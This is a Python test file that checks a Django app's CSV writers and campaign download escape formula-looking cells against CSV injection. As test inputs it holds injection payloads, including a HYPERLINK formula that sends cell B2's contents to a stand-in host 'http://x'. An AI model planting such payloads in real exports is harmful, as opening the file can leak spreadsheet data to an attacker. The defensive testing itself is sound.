"""Every CSV the product writes neutralises formula-looking text cells (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.test import Client

from smarketing.core.csvsafe import SafeDictWriter, SafeWriter, csv_safe_cell


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x"&B2,"y")', "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"])
def test_formula_looking_text_gets_a_leading_quote(text):
    assert csv_safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-12.5, -3, 0, "-12.5", "12", "plain text", None, "a=b"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert csv_safe_cell(value) == value


def test_both_writers_neutralise_every_cell():
    out = io.StringIO()
    SafeWriter(out).writerow(["=1+1", -5, "ok"])
    writer = SafeDictWriter(out, fieldnames=["name", "amount"])
    writer.writerow({"name": "@evil", "amount": -7})

    assert out.getvalue().splitlines() == ["'=1+1,-5,ok", "'@evil,-7"]


def test_the_campaigns_download_neutralises_a_formula_name(db, users, monkeypatch, settings):
    from smarketing.testing.factories import CampaignFactory
    from smarketing.web.data import common

    settings.SMARKETING_WEB_WARM = False
    monkeypatch.setattr(common, "RUN_INLINE", True)
    common.clear()
    name = '=HYPERLINK("http://x"&B2,"y")'
    CampaignFactory(name=name, start_date=date(2026, 10, 1))
    client = Client()
    client.force_login(users["revops"])

    response = client.get("/campaigns/", {"format": "csv"})
    common.clear()

    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert "'" + name in cells
    assert name not in cells
